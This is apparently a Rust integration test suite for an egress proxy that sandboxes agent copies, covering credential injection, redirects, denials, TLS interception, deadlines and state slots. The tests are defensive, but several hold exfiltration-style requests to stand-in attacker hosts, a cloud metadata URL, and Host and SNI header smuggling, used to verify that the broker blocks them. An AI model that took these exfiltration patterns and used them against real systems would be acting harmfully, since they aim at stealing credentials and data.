//! Egress rules of the broker against real HTTP(S) sinks: credentials, redirects, denials and
//! name resolution, TLS interception, deadlines, malformed input and state slots.

mod common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use common::*;
use germline_policy::call::LabelRules;
use germline_policy::plan::PlanMode;
use germline_policy::Label;

const DL: Duration = Duration::from_secs(10);

fn one_host(host: &'static str, sink: &Sink, extra: &str) -> (World, u64) {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = policy(dir.path(), &[(host, &["finance"], Some(sink.addr))], extra);
    let w = broker(dir, p, |_| {});
    let (call, _) = begin(
        &w,
        &[],
        &[m(host, &["finance"])],
        &[m("agent", &["finance"])],
        PlanMode::Split,
        LabelRules::default(),
    );
    (w, call)
}

/// The declared host receives the injected key; the copy, the audit log and other hosts never
/// see it. A request to a canary-named attacker host leaves no canary in the log.
#[test]
fn credentials_reach_only_their_host() {
    if !require_root() {
        return;
    }
    const KEY: &str = "k-7f3a9c-CREDENTIAL-CANARY";
    let dir = tempfile::tempdir().expect("tempdir");
    let api = Sink::with(Arc::new(|r: &Received| {
        (200, vec![], r.head.clone().into_bytes())
    }));
    let other = Sink::with(Arc::new(|r: &Received| {
        (200, vec![], r.head.clone().into_bytes())
    }));
    let extra =
        format!("\n[credentials.\"api.example\"]\nheader = \"X-Api-Key\"\nvalue = \"{KEY}\"\n");
    let p = policy(
        dir.path(),
        &[
            ("api.example", &[], Some(api.addr)),
            ("other.example", &[], Some(other.addr)),
        ],
        &extra,
    );
    let w = broker(dir, p, |_| {});
    let hosts = [m("api.example", &[]), m("other.example", &[])];
    let (call, plan) = begin(
        &w,
        &[],
        &hosts,
        &[m("agent", &[])],
        PlanMode::Split,
        LabelRules::default(),
    );
    assert_eq!(plan.groups.len(), 1);
    let (resps, _) = copy(&w, call, 0, DL, |p| {
        vec![
            http(p, "GET", "http://api.example/v1", &[], b"").expect("api"),
            http(p, "GET", "http://other.example/v1", &[], b"").expect("other"),
            http(
                p,
                "GET",
                "http://deadbeefcanary42.attacker.example/x",
                &[],
                b"",
            )
            .expect("attacker"),
        ]
    });
    let api_got = String::from_utf8_lossy(&api.all_bytes()).to_lowercase();
    assert!(
        api_got.contains(&format!("x-api-key: {}", KEY.to_lowercase())),
        "{api_got}"
    );
    assert!(!String::from_utf8_lossy(&other.all_bytes()).contains(KEY));
    // The copy's responses: the sinks echo what they received, the broker strips nothing
    // of its own, so the api host's echo is the only place the key could show; the copy may
    // learn what its host chooses to tell it, but the broker never hands it over itself.
    assert!(!String::from_utf8_lossy(&resps[1].body).contains(KEY));
    assert_eq!(resps[2].germline().as_deref(), Some("denied"));
    let audit = w.audit();
    assert!(!audit.contains(KEY), "credential in the audit log");
    assert!(
        !audit.contains("deadbeefcanary42"),
        "copy-controlled host name in the audit log"
    );
    assert!(audit.contains("\"verdict\":\"denied\""));
}

/// A 302 and a body-preserving 307 to an attacker host: the broker returns them, so nothing
/// reaches the attacker; an ordinary proxy that follows redirects (the reference) delivers one
/// request per redirect there.
#[test]
fn redirects_are_returned_not_followed() {
    if !require_root() {
        return;
    }
    for follow in [false, true] {
        let dir = tempfile::tempdir().expect("tempdir");
        let attacker = Sink::ok();
        let loc302 = "http://attacker.example/steal?d=from-302".to_string();
        let loc307 = "http://attacker.example/steal-body".to_string();
        let ocr = Sink::with(Arc::new(move |r: &Received| {
            if r.head.starts_with("GET") {
                (302, vec![("location".into(), loc302.clone())], vec![])
            } else {
                (307, vec![("location".into(), loc307.clone())], vec![])
            }
        }));
        let p = policy(
            dir.path(),
            &[
                ("ocr.example", &["finance"], Some(ocr.addr)),
                ("attacker.example", &[], Some(attacker.addr)),
            ],
            "",
        );
        let w = broker(dir, p, |c| c.follow_redirects = follow);
        let (call, _) = begin(
            &w,
            &[],
            &[m("ocr.example", &["finance"])],
            &[m("agent", &["finance"])],
            PlanMode::Split,
            LabelRules::default(),
        );
        let (resps, _) = copy(&w, call, 0, DL, |p| {
            vec![
                http(p, "GET", "http://ocr.example/a", &[], b"").expect("get"),
                http(p, "POST", "http://ocr.example/b", &[], b"SECRET-BODY").expect("post"),
            ]
        });
        if follow {
            assert_eq!(
                attacker.count(),
                2,
                "reference: one request per followed redirect"
            );
            assert!(String::from_utf8_lossy(&attacker.all_bytes()).contains("SECRET-BODY"));
        } else {
            assert_eq!(attacker.count(), 0);
            assert_eq!(resps[0].status, 302);
            assert_eq!(resps[1].status, 307);
        }
    }
}

/// Undeclared host, raw IP, IPv6 literal, localhost, the metadata address and an unpinned
/// declared name that resolves to loopback are all denied and logged; no lookup happens for an
/// undeclared name.
#[test]
fn denials_and_name_resolution() {
    if !require_root() {
        return;
    }
    let sink = Sink::ok();
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname")
        .expect("hostname")
        .trim()
        .to_ascii_lowercase();
    let dir = tempfile::tempdir().expect("tempdir");
    let p = policy(
        dir.path(),
        &[
            ("ocr.example", &[], Some(sink.addr)),
            (Box::leak(host.clone().into_boxed_str()), &[], None),
        ],
        "",
    );
    let w = broker(dir, p, |_| {});
    let hosts = [m("ocr.example", &[]), m(&host, &[])];
    let (call, _) = begin(
        &w,
        &[],
        &hosts,
        &[m("agent", &[])],
        PlanMode::Split,
        LabelRules::default(),
    );
    let port = sink.addr.port();
    let urls: Vec<String> = vec![
        "http://undeclared.example/".into(),
        format!("http://127.0.0.1:{port}/"),
        format!("http://[::1]:{port}/"),
        format!("http://localhost:{port}/"),
        "http://169.254.169.254/latest/meta-data/".into(),
    ];
    let lookups_before = w
        .broker
        .stats()
        .dns_lookups
        .load(std::sync::atomic::Ordering::Relaxed);
    let hostname_url = format!("http://{host}:{port}/");
    let (resps, _) = copy(&w, call, 0, DL, move |p| {
        let mut v: Vec<Resp> = urls
            .iter()
            .map(|u| http(p, "GET", u, &[], b"").expect("request"))
            .collect();
        v.push(http(p, "GET", &hostname_url, &[], b"").expect("hostname"));
        v
    });
    for r in &resps[..5] {
        assert_eq!(r.status, 403, "{}", r.head);
        assert_eq!(r.germline().as_deref(), Some("denied"));
    }
    assert_eq!(sink.count(), 0, "nothing reached the sink");
    let lookups = w
        .broker
        .stats()
        .dns_lookups
        .load(std::sync::atomic::Ordering::Relaxed)
        - lookups_before;
    assert_eq!(lookups, 1, "only the declared, unpinned name was looked up");
    // This machine's own name resolves to an internal address: refused unless pinned.
    assert_eq!(
        resps[5].germline().as_deref(),
        Some("denied"),
        "{}",
        resps[5].head
    );
    let audit = w.audit();
    assert_eq!(
        audit.matches("\"verdict\":\"denied\"").count(),
        6,
        "{audit}"
    );
    assert!(!audit.contains("undeclared.example") && !audit.contains("169.254.169.254"));
}

/// HTTPS: the broker terminates TLS with the deployment CA, delivers over TLS with the
/// upstream's certificate verified, and the body arrives intact. A certificate that does not
/// name the host is refused upstream; an SNI or inner Host naming another host is refused.
#[test]
fn https_interception() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let (ca_path, tls) = test_tls(dir.path(), &["secure.example"]);
    let sink = Sink::tls(
        Arc::new(|r: &Received| {
            (
                200,
                vec![],
                format!("got {} bytes", r.body.len()).into_bytes(),
            )
        }),
        tls,
    );
    let p = policy(
        dir.path(),
        &[
            ("secure.example", &[], Some(sink.addr)),
            ("wrong.example", &[], Some(sink.addr)),
        ],
        "",
    );
    let w = broker(dir, p, |c| c.extra_roots = vec![ca_path]);
    let hosts = [m("secure.example", &[]), m("wrong.example", &[])];
    let (call, _) = begin(
        &w,
        &[],
        &hosts,
        &[m("agent", &[])],
        PlanMode::Split,
        LabelRules::default(),
    );
    let ca = w.broker.ca_cert_pem().to_string();
    let port = sink.addr.port();
    let body: Vec<u8> = (0..70_000u32).map(|i| (i % 251) as u8).collect();
    let b2 = body.clone();
    let (resps, _) = copy(&w, call, 0, DL, move |p| {
        let t = format!("secure.example:{port}");
        let w2 = format!("wrong.example:{port}");
        vec![
            https(p, &t, "secure.example", &t, &ca, "/upload", &b2).map_err(|e| e.to_string()),
            https(p, &w2, "wrong.example", &w2, &ca, "/upload", b"x").map_err(|e| e.to_string()),
            https(p, &t, "other.example", &t, &ca, "/upload", b"x").map_err(|e| e.to_string()),
            https(
                p,
                &t,
                "secure.example",
                "other.example",
                &ca,
                "/upload",
                b"x",
            )
            .map_err(|e| e.to_string()),
        ]
    });
    let ok = resps[0].as_ref().expect("delivered over TLS");
    assert_eq!(ok.status, 200);
    assert_eq!(ok.body, b"got 70000 bytes");
    assert_eq!(sink.requests()[0].body, body, "body intact");
    let mismatch = resps[1].as_ref().expect("answered");
    assert_eq!(
        mismatch.germline().as_deref(),
        Some("upstream-tls"),
        "{}",
        mismatch.head
    );
    assert!(
        resps[2].is_err(),
        "SNI naming another host: the handshake is refused"
    );
    assert_eq!(
        resps[3].as_ref().expect("answered").germline().as_deref(),
        Some("denied")
    );
    assert_eq!(sink.count(), 1, "only the good request reached the sink");
    let audit = w.audit();
    assert!(
        audit.contains("TLS SNI differs") && audit.contains("inner Host differs"),
        "{audit}"
    );
}

/// A slow destination: the copy's request is cut at its deadline, and the next call works.
#[test]
fn slow_destination_is_cut_at_the_deadline() {
    if !require_root() {
        return;
    }
    let slow = Sink::with(Arc::new(|_r: &Received| {
        std::thread::sleep(Duration::from_secs(6));
        (200, vec![], b"late".to_vec())
    }));
    let (w, call) = one_host("ocr.example", &slow, "");
    let t0 = Instant::now();
    let (r, _) = copy(&w, call, 0, Duration::from_secs(2), |p| {
        http(p, "GET", "http://ocr.example/", &[], b"").map(|r| r.status)
    });
    let took = t0.elapsed();
    assert!(r.is_err() || r.as_ref().is_ok_and(|s| *s == 504), "{r:?}");
    assert!(
        took < Duration::from_secs(5),
        "cut at the 2 s deadline, took {took:?}"
    );
    w.broker.end_call(call).expect("end");

    let fast = Sink::ok();
    let (w2, call2) = one_host("ocr.example", &fast, "");
    let (r, _) = copy(&w2, call2, 0, DL, |p| {
        http(p, "GET", "http://ocr.example/", &[], b"").expect("next call")
    });
    assert_eq!(r.status, 200);
}

/// Not HTTP, or not a proxy request: an error answer, recorded, and the copy's next request
/// still works.
#[test]
fn malformed_requests() {
    if !require_root() {
        return;
    }
    let sink = Sink::ok();
    let (w, call) = one_host("ocr.example", &sink, "");
    let (resps, _) = copy(&w, call, 0, DL, |p| {
        vec![
            raw(p, b"GET / HTTP/1.1\r\nhost: ocr.example\r\n\r\n").map(|r| r.status),
            raw(p, b"\x16\x03\x01 this is not http\r\n\r\n").map(|r| r.status),
            http(p, "GET", "http://ocr.example/", &[], b"").map(|r| r.status),
        ]
    });
    assert_eq!(resps[0].as_ref().ok(), Some(&400));
    assert_eq!(resps[1].as_ref().ok(), Some(&400));
    assert_eq!(resps[2].as_ref().ok(), Some(&200));
    assert!(w.audit().contains("\"verdict\":\"malformed\""));
}

/// State slots through the reserved pseudo-destination: a write is stored with the copy's
/// label and a later call of the same horizon reads it back, labelled; within its own call the
/// copy reads only the snapshot taken when it started (its write is not read back); another
/// horizon sees nothing.
#[test]
fn state_slots() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let p = policy(dir.path(), &[], "");
    let slots = dir.path().join("slots.db");
    let w = broker(dir, p, |c| c.slots = Some(slots));
    let agent = [m("agent", &["hr", "finance"])];
    let (c1, _) = begin(
        &w,
        &[item("salary", &["hr"])],
        &[],
        &agent,
        PlanMode::Split,
        LabelRules::default(),
    );
    let ((r, same_call, same_list), out) = copy(&w, c1, 0, DL, |p| {
        let put = http(
            p,
            "PUT",
            "http://state.germline/slot/note",
            &[],
            b"alice earns 123",
        )
        .expect("put");
        let get = http(p, "GET", "http://state.germline/slot/note", &[], b"").expect("get");
        let list = http(p, "GET", "http://state.germline/slot", &[], b"").expect("list");
        (put, get, list)
    });
    assert_eq!(r.status, 204);
    assert_eq!(out.label, Label::of(["hr"]));
    assert_eq!(
        same_call.status, 404,
        "a copy does not read back its own write within its call"
    );
    assert_eq!(same_list.body, b"[]", "nor list it");
    w.broker.end_call(c1).expect("end");

    let (c2, _) = begin(&w, &[], &[], &agent, PlanMode::Split, LabelRules::default());
    let ((r, list), out) = copy(&w, c2, 0, DL, |p| {
        let get = http(p, "GET", "http://state.germline/slot/note", &[], b"").expect("get");
        let list = http(p, "GET", "http://state.germline/slot", &[], b"").expect("list");
        (get, list)
    });
    assert_eq!(
        r.body, b"alice earns 123",
        "the next call's snapshot has it"
    );
    assert_eq!(list.body, br#"["note"]"#);
    assert_eq!(
        out.label,
        Label::of(["hr"]),
        "the recalled entry keeps its label"
    );

    let (c3, _) = begin(
        &w,
        &[],
        &[],
        &[m("blog", &[])],
        PlanMode::Split,
        LabelRules::default(),
    );
    let (r, out) = copy(&w, c3, 0, DL, |p| {
        http(p, "GET", "http://state.germline/slot/note", &[], b"").expect("get")
    });
    assert_eq!(r.status, 404, "another horizon's slot is out of reach");
    assert_eq!(out.label, Label::public());
}

/// No copy's traffic can stall another call: while one call's copy waits on a slow host,
/// another call's copy is served at once.
#[test]
fn a_slow_call_does_not_stall_another() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let slow = Sink::with(Arc::new(|_r: &Received| {
        std::thread::sleep(Duration::from_secs(3));
        (200, vec![], b"late".to_vec())
    }));
    let fast = Sink::ok();
    let p = policy(
        dir.path(),
        &[
            ("slow.example", &[], Some(slow.addr)),
            ("fast.example", &[], Some(fast.addr)),
        ],
        "",
    );
    let w = Arc::new(broker(dir, p, |_| {}));
    let (c1, _) = begin(
        &w,
        &[],
        &[m("slow.example", &[])],
        &[],
        PlanMode::Split,
        LabelRules::default(),
    );
    let (c2, _) = begin(
        &w,
        &[],
        &[m("fast.example", &[])],
        &[],
        PlanMode::Split,
        LabelRules::default(),
    );
    let w1 = w.clone();
    let slow_call = std::thread::spawn(move || {
        copy(&w1, c1, 0, DL, |p| {
            http(p, "GET", "http://slow.example/", &[], b"").map(|r| r.status)
        })
    });
    std::thread::sleep(Duration::from_millis(300));
    let t0 = Instant::now();
    let (r, _) = copy(&w, c2, 0, DL, |p| {
        http(p, "GET", "http://fast.example/", &[], b"").expect("fast")
    });
    let took = t0.elapsed();
    assert_eq!(r.status, 200);
    assert!(
        took < Duration::from_millis(1500),
        "the fast call waited {took:?}"
    );
    let (slow_status, _) = slow_call.join().expect("slow call");
    assert_eq!(slow_status.ok(), Some(200));
}

/// Issue 25 item 7: every request the broker denies (an undeclared host, an IP literal, a Host
/// header or a TLS SNI or an inner Host naming another host than the target, an undeclared
/// host a redirect named) is a trigger of the copy with its reason, in the copy's outcome and
/// in the call record, and leaves a `request` line and a `trigger` line in the audit log with
/// the reason; names the copy chose appear only as digests. On 88bfd6b a denial left no
/// trigger at all.
#[test]
fn every_denial_is_a_trigger_with_its_reason_in_the_call_record_and_the_audit_log() {
    use germline_policy::call::{DenialReason, TriggerKind, UNDECLARED};
    if !require_root() {
        return;
    }
    let ocr = Sink::with(Arc::new(|r: &Received| {
        if r.head.starts_with("GET /redirect") {
            let to = "http://elsewhere-canary.example/landing".to_string();
            (302, vec![("location".into(), to)], vec![])
        } else {
            (200, vec![], b"ok".to_vec())
        }
    }));
    let (w, call) = one_host("ocr.example", &ocr, "");
    let ca = w.broker.ca_cert_pem().to_string();
    let (resps, outcome) = copy(&w, call, 0, DL, move |p| {
        let t = "ocr.example:443";
        vec![
            http(p, "GET", "http://exfil-canary.example/x", &[], b"").map(|r| r.status),
            http(p, "GET", "http://203.0.113.7/x", &[], b"").map(|r| r.status),
            raw(
                p,
                b"GET http://ocr.example/x HTTP/1.1\r\nhost: other-canary.example\r\nconnection: close\r\n\r\n",
            )
            .map(|r| r.status),
            https(p, t, "sni-canary.example", t, &ca, "/x", b"x").map(|r| r.status),
            https(p, t, "ocr.example", "inner-canary.example", &ca, "/x", b"x").map(|r| r.status),
            http(p, "GET", "http://ocr.example/redirect", &[], b"").map(|r| r.status),
            http(p, "GET", "http://elsewhere-canary.example/landing", &[], b"").map(|r| r.status),
        ]
    });
    let statuses: Vec<String> = resps
        .iter()
        .map(|r| {
            r.as_ref()
                .map_or_else(|_| "refused".into(), |s| s.to_string())
        })
        .collect();
    assert_eq!(
        statuses,
        ["403", "403", "403", "refused", "403", "302", "403"],
        "{resps:?}"
    );
    let reasons = |triggers: &[germline_policy::call::Trigger]| -> Vec<(String, DenialReason)> {
        triggers
            .iter()
            .filter_map(|t| match &t.kind {
                TriggerKind::Denied { reason, .. } => Some((t.host.clone(), *reason)),
                _ => None,
            })
            .collect()
    };
    let expected = vec![
        (UNDECLARED.to_string(), DenialReason::UndeclaredHost),
        (UNDECLARED.to_string(), DenialReason::IpLiteral),
        ("ocr.example".to_string(), DenialReason::HostMismatch),
        ("ocr.example".to_string(), DenialReason::SniMismatch),
        ("ocr.example".to_string(), DenialReason::InnerHostMismatch),
        (UNDECLARED.to_string(), DenialReason::Redirect),
    ];
    assert_eq!(reasons(&outcome.triggers), expected);
    let record = w.broker.end_call(call).expect("end call");
    assert_eq!(reasons(&record.copies[&0].triggers), expected);
    let audit = w.audit();
    let lines: Vec<serde_json::Value> = audit
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let denied: Vec<&str> = lines
        .iter()
        .filter(|e| e["event"] == "request" && e["verdict"] == "denied")
        .filter_map(|e| e["reason"].as_str())
        .collect();
    assert_eq!(
        denied,
        [
            "undeclared_host",
            "ip_literal",
            "host_mismatch",
            "sni_mismatch",
            "inner_host_mismatch",
            "redirect"
        ],
        "{audit}"
    );
    let triggers: Vec<&str> = lines
        .iter()
        .filter(|e| e["event"] == "trigger")
        .filter_map(|e| e["kind"]["denied"]["reason"].as_str())
        .collect();
    assert_eq!(triggers.len(), 6, "{audit}");
    assert!(
        !audit.contains("canary") && !audit.contains("203.0.113.7"),
        "{audit}"
    );
}

/// The namespace the calling thread is in, by its nsfs inode.
fn own_netns() -> u64 {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata("/proc/thread-self/ns/net")
        .expect("own netns")
        .ino()
}

/// A copy's listener is bound by the calling thread inside the copy's network namespace
/// (issue 30: no thread per copy), and the thread is back in its own namespace afterwards,
/// for this copy and the next.
#[test]
fn a_copys_listener_is_bound_in_its_namespace_and_the_caller_comes_back() {
    if !require_root() {
        return;
    }
    let sink = Sink::ok();
    let (w, call) = one_host("ocr.example", &sink, "");
    let home = own_netns();
    let ns = TestNetns::new();
    let addr = w
        .broker
        .start_copy(
            call,
            0,
            std::os::fd::AsFd::as_fd(&ns.fd),
            Instant::now() + DL,
        )
        .expect("start");
    assert_eq!(own_netns(), home, "the caller is back in its own namespace");
    assert!(!germline_broker::netns::thread_stranded());
    let r = ns.run(move || {
        http(addr, "POST", "http://ocr.example/ocr", &[], b"invoice").expect("request")
    });
    assert_eq!(r.status, 200, "the listener is in the copy's namespace");
    w.broker.end_call(call).expect("end");
    assert_eq!(sink.count(), 1);
}

/// A pool copy's endpoint prepared before any call (issues 28 and 30,
/// `germline_broker::prepared`): a start naming another namespace does not get it; the start
/// naming its own takes it (one use), serves that call's group from inside the copy's
/// namespace, and closes unread what the copy queued on it while it waited.
#[test]
fn a_prepared_endpoint_serves_only_its_copy_and_call_and_carries_nothing_from_before() {
    use std::io::{Read, Write};
    use std::os::fd::AsFd;
    if !require_root() {
        return;
    }
    let sink = Sink::ok();
    let (w, other_call) = one_host("ocr.example", &sink, "");
    let waiting = TestNetns::new();
    let home = own_netns();
    w.broker.prepare_copy(waiting.fd.as_fd()).expect("prepare");
    assert_eq!(own_netns(), home, "the caller is back in its own namespace");
    assert_eq!(w.broker.prepared_endpoints(), 1);
    // While it waits (no call yet) the copy queues a request on its endpoint.
    let proxy = w.broker.copy_proxy_addr();
    let mut early = waiting.run(move || {
        let mut s = std::net::TcpStream::connect(proxy).expect("queued on the prepared listener");
        s.write_all(
            b"POST http://ocr.example/ocr HTTP/1.1\r\nHost: ocr.example\r\nContent-Length: 5\r\n\r\nearly",
        )
        .expect("write");
        s
    });
    // Another copy's start binds its own endpoint and leaves this one waiting.
    let other = TestNetns::new();
    let addr = w
        .broker
        .start_copy(other_call, 0, other.fd.as_fd(), Instant::now() + DL)
        .expect("start another copy");
    assert_eq!(w.broker.prepared_endpoints(), 1, "not another namespace's");
    let r = other.run(move || http(addr, "POST", "http://ocr.example/ocr", &[], b"other"));
    assert_eq!(r.expect("request").status, 200);
    w.broker.end_call(other_call).expect("end");
    // The waiting copy's call takes its prepared endpoint.
    let (call, _) = begin(
        &w,
        &[],
        &[m("ocr.example", &["finance"])],
        &[m("agent", &["finance"])],
        PlanMode::Split,
        LabelRules::default(),
    );
    let addr = w
        .broker
        .start_copy(call, 0, waiting.fd.as_fd(), Instant::now() + DL)
        .expect("start the waiting copy");
    assert_eq!(w.broker.prepared_endpoints(), 0, "taken, once");
    let _ = early.set_read_timeout(Some(Duration::from_secs(5)));
    let mut got = Vec::new();
    let _ = early.read_to_end(&mut got);
    assert!(
        got.is_empty(),
        "the queued connection is closed unread: {}",
        String::from_utf8_lossy(&got)
    );
    let r = waiting.run(move || http(addr, "POST", "http://ocr.example/ocr", &[], b"mine"));
    assert_eq!(
        r.expect("request").status,
        200,
        "served in the copy's namespace"
    );
    let rec = w.broker.end_call(call).expect("end");
    let bodies: Vec<Vec<u8>> = sink.requests().into_iter().map(|q| q.body).collect();
    assert_eq!(
        bodies,
        vec![b"other".to_vec(), b"mine".to_vec()],
        "the queued request never left"
    );
    let delivered: usize = rec.delivered.values().map(Vec::len).sum();
    assert_eq!(delivered, 1, "the call's record holds its own request only");
}
